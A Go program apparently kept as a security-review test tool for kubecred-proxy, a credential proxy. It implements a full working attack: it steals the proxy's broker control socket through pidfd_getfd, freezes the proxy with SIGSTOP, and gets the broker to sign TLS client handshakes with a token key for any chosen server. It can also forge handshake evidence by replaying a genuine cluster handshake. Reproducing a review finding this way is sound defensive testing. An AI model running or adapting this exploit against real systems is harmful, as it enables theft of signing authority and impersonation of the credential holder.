//go:build linux

// Command signingoracle is the attack of security review 3, C3 (ii), kept as a test tool: a
// program that has taken kubecred-proxy's control channel (pidfd_getfd, which needs ptrace
// rights over the proxy) asks the broker to sign the TLS handshake of a connection of its own,
// to any server, and says what that server answered. Never built into the product.
//
//	signingoracle -pid P -profile NAME -cert token.crt -ca server-ca.pem -url https://host/path
//	  [-tls12] [-evidence-from https://cluster/ -evidence-ca ca.pem]
//
// With -evidence-from it lies: it first records a handshake with the profile's real cluster
// and hands the broker that handshake with the other server's transcript hash.
package main

import (
	"bufio"
	"crypto"
	"crypto/ecdsa"
	"crypto/rsa"
	"crypto/tls"
	"crypto/x509"
	"encoding/asn1"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"flag"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"syscall"
	"time"

	"kubecred.dev/shim/handshakelog"
)

const (
	sysPidfdOpen  = 434
	sysPidfdGetfd = 438
)

type result struct {
	Status int    `json:"status,omitempty"`
	Body   string `json:"body,omitempty"`
	Error  string `json:"error,omitempty"`
	// Refusal is the broker's answer to the sign request, when it refused.
	Refusal string `json:"refusal,omitempty"`
}

func main() {
	pid := flag.Int("pid", 0, "kubecred-proxy's pid")
	profile := flag.String("profile", "", "the profile whose token key to use")
	certFile := flag.String("cert", "", "the token's certificate (public: read off the token without a PIN)")
	caFile := flag.String("ca", "", "the CA of the server at -url")
	target := flag.String("url", "", "where to authenticate")
	tls12 := flag.Bool("tls12", false, "hold the handshake to TLS 1.2")
	evidenceFrom := flag.String("evidence-from", "", "the profile's cluster, to take a genuine handshake from")
	evidenceCA := flag.String("evidence-ca", "", "the CA of -evidence-from")
	flag.Parse()
	out := json.NewEncoder(os.Stdout)
	res, err := attack(*pid, *profile, *certFile, *caFile, *target, *tls12, *evidenceFrom, *evidenceCA)
	if err != nil {
		res.Error = err.Error()
	}
	_ = out.Encode(res)
}

func attack(pid int, profile, certFile, caFile, target string, tls12 bool, evidenceFrom, evidenceCA string) (result, error) {
	var res result
	chain, leaf, err := readChain(certFile)
	if err != nil {
		return res, err
	}
	channel, err := borrow(pid)
	if err != nil {
		return res, err
	}
	var fake map[string]string
	if evidenceFrom != "" {
		if fake, err = genuineHandshake(evidenceFrom, evidenceCA, chain, leaf); err != nil {
			return res, fmt.Errorf("recording the cluster's handshake: %w", err)
		}
	}
	roots, err := pool(caFile)
	if err != nil {
		return res, err
	}
	config := &tls.Config{RootCAs: roots, MinVersion: tls.VersionTLS13}
	if tls12 {
		config.MinVersion, config.MaxVersion = tls.VersionTLS12, tls.VersionTLS12
	}
	var log *handshakelog.Log
	config.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) {
		signer := &stolenSigner{public: leaf.PublicKey, profile: profile, channel: channel, pid: pid, refusal: &res.Refusal}
		if !tls12 {
			signer.evidence = func() map[string]string {
				if fake != nil {
					return fake
				}
				return log.Evidence(chain)
			}
		}
		return &tls.Certificate{Certificate: chain, Leaf: leaf, PrivateKey: signer}, nil
	}
	client := &http.Client{Timeout: 20 * time.Second, Transport: &http.Transport{
		DialTLS: func(network, addr string) (net.Conn, error) {
			raw, err := net.Dial(network, addr)
			if err != nil {
				return nil, err
			}
			log = handshakelog.New(raw)
			c := config.Clone()
			c.KeyLogWriter = log.KeyLog()
			host, _, _ := net.SplitHostPort(addr)
			c.ServerName = host
			conn := tls.Client(log, c)
			if err := conn.Handshake(); err != nil {
				raw.Close()
				return nil, err
			}
			return conn, nil
		},
	}}
	response, err := client.Get(target)
	if err != nil {
		return res, err
	}
	defer response.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(response.Body, 4096))
	res.Status, res.Body = response.StatusCode, string(body)
	return res, nil
}

// genuineHandshake runs a handshake with the profile's cluster up to the client's signature and
// returns what the broker would accept for it, without ever signing.
func genuineHandshake(server, caFile string, chain [][]byte, leaf *x509.Certificate) (map[string]string, error) {
	u, err := url.Parse(server)
	if err != nil {
		return nil, err
	}
	roots, err := pool(caFile)
	if err != nil {
		return nil, err
	}
	raw, err := net.Dial("tcp", u.Host)
	if err != nil {
		return nil, err
	}
	defer raw.Close()
	log := handshakelog.New(raw)
	var evidence map[string]string
	enough := errors.New("enough")
	conn := tls.Client(log, &tls.Config{
		RootCAs: roots, ServerName: u.Hostname(), MinVersion: tls.VersionTLS13, KeyLogWriter: log.KeyLog(),
		GetClientCertificate: func(*tls.CertificateRequestInfo) (*tls.Certificate, error) {
			evidence = log.Evidence(chain)
			return nil, enough
		},
	})
	_ = conn.Handshake()
	if evidence == nil {
		return nil, errors.New("the cluster asked for no client certificate")
	}
	return evidence, nil
}

// borrow takes the proxy's control channel: the one Unix socket it holds, connected to the
// broker (it connected after turning non-dumpable, so only ptrace rights over it reach it, which
// root has). Its stdin and stdout are /dev/null since security review 4, D3.
func borrow(pid int) (*channel, error) {
	pidfd, _, errno := syscall.Syscall(sysPidfdOpen, uintptr(pid), 0, 0)
	if errno != 0 {
		return nil, fmt.Errorf("pidfd_open(%d): %v", pid, errno)
	}
	entries, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
	if err != nil {
		return nil, err
	}
	for _, entry := range entries {
		var target int
		// 0 to 2 are never the channel (stderr is a socket pair too: Node makes stdio pipes so).
		if _, err := fmt.Sscan(entry.Name(), &target); err != nil || target <= 2 {
			continue
		}
		fd, _, errno := syscall.Syscall(sysPidfdGetfd, pidfd, uintptr(target), 0)
		if errno != 0 {
			continue
		}
		domain, err := syscall.GetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_DOMAIN)
		if err == nil && domain == syscall.AF_UNIX {
			file := os.NewFile(fd, "control-channel")
			return &channel{out: file, in: bufio.NewReader(file)}, nil
		}
		_ = syscall.Close(int(fd))
	}
	return nil, fmt.Errorf("kubecred-proxy (pid %d) holds no Unix socket", pid)
}

type channel struct {
	out *os.File
	in  *bufio.Reader
}

// readLine gives up after timeout: a reply that never comes must not leave the proxy stopped.
func (c *channel) readLine(timeout time.Duration) ([]byte, error) {
	type read struct {
		line []byte
		err  error
	}
	done := make(chan read, 1)
	go func() {
		line, err := c.in.ReadBytes('\n')
		done <- read{line, err}
	}()
	select {
	case r := <-done:
		return r.line, r.err
	case <-time.After(timeout):
		return nil, fmt.Errorf("no reply from the broker within %v", timeout)
	}
}

// waitStopped waits until the kernel reports pid as stopped (state T in /proc/<pid>/stat).
func waitStopped(pid int) error {
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
		if err != nil {
			return err
		}
		// The state follows the command name, which is in parentheses and may hold spaces.
		if end := strings.LastIndexByte(string(stat), ')'); end > 0 && end+2 < len(stat) && stat[end+2] == 'T' {
			return nil
		}
		time.Sleep(5 * time.Millisecond)
	}
	return fmt.Errorf("kubecred-proxy (pid %d) did not stop", pid)
}

type stolenSigner struct {
	public   crypto.PublicKey
	profile  string
	channel  *channel
	pid      int
	evidence func() map[string]string
	refusal  *string
}

func (s *stolenSigner) Public() crypto.PublicKey { return s.public }

func (s *stolenSigner) Sign(io.Reader, []byte, crypto.SignerOpts) ([]byte, error) {
	return nil, errors.New("needs the message")
}

func (s *stolenSigner) SignMessage(_ io.Reader, message []byte, opts crypto.SignerOpts) ([]byte, error) {
	scheme, err := schemeFor(s.public, opts)
	if err != nil {
		return nil, err
	}
	request := map[string]any{"id": 987654321, "type": "sign", "profile": s.profile, "scheme": scheme, "message": base64.StdEncoding.EncodeToString(message)}
	if s.evidence != nil {
		request["handshake"] = s.evidence()
	}
	line, _ := json.Marshal(request)
	fmt.Fprintf(os.Stderr, "asking the broker: %s %s\n", s.profile, scheme)
	// The proxy must not read the broker's reply first: it is stopped, and known to be, before
	// the request goes out. Whatever happens next, it is let go again.
	_ = syscall.Kill(s.pid, syscall.SIGSTOP)
	defer syscall.Kill(s.pid, syscall.SIGCONT)
	if err := waitStopped(s.pid); err != nil {
		return nil, err
	}
	if _, err := s.channel.out.Write(append(line, '\n')); err != nil {
		return nil, err
	}
	for {
		text, err := s.channel.readLine(20 * time.Second)
		if err != nil {
			return nil, err
		}
		var reply struct {
			ID        int64  `json:"id"`
			Reply     bool   `json:"reply"`
			Okay      bool   `json:"ok"`
			Error     string `json:"error"`
			Signature string `json:"signature"`
		}
		if json.Unmarshal(text, &reply) != nil || reply.ID != 987654321 || !reply.Reply {
			fmt.Fprintf(os.Stderr, "not our reply: %.200s\n", text)
			continue
		}
		if !reply.Okay {
			*s.refusal = reply.Error
			return nil, errors.New("the broker refused: " + reply.Error)
		}
		signature, _ := base64.StdEncoding.DecodeString(reply.Signature)
		if _, ec := s.public.(*ecdsa.PublicKey); ec {
			half := len(signature) / 2
			return asn1.Marshal(struct{ R, S *big.Int }{new(big.Int).SetBytes(signature[:half]), new(big.Int).SetBytes(signature[half:])})
		}
		return signature, nil
	}
}

func schemeFor(public crypto.PublicKey, opts crypto.SignerOpts) (string, error) {
	hash := map[crypto.Hash]string{crypto.SHA256: "sha256", crypto.SHA384: "sha384", crypto.SHA512: "sha512"}[opts.HashFunc()]
	switch public.(type) {
	case *ecdsa.PublicKey:
		return "ecdsa_" + hash, nil
	case *rsa.PublicKey:
		if _, pss := opts.(*rsa.PSSOptions); pss {
			return "rsa_pss_" + hash, nil
		}
		return "rsa_pkcs1_" + hash, nil
	}
	return "", fmt.Errorf("a %T key", public)
}

func readChain(file string) ([][]byte, *x509.Certificate, error) {
	text, err := os.ReadFile(file)
	if err != nil {
		return nil, nil, err
	}
	var chain [][]byte
	for block, rest := pem.Decode(text); block != nil; block, rest = pem.Decode(rest) {
		chain = append(chain, block.Bytes)
	}
	if len(chain) == 0 {
		return nil, nil, fmt.Errorf("no certificate in %s", file)
	}
	leaf, err := x509.ParseCertificate(chain[0])
	return chain, leaf, err
}

func pool(file string) (*x509.CertPool, error) {
	text, err := os.ReadFile(file)
	if err != nil {
		return nil, err
	}
	roots := x509.NewCertPool()
	if !roots.AppendCertsFromPEM(text) {
		return nil, fmt.Errorf("no certificate in %s", file)
	}
	return roots, nil
}
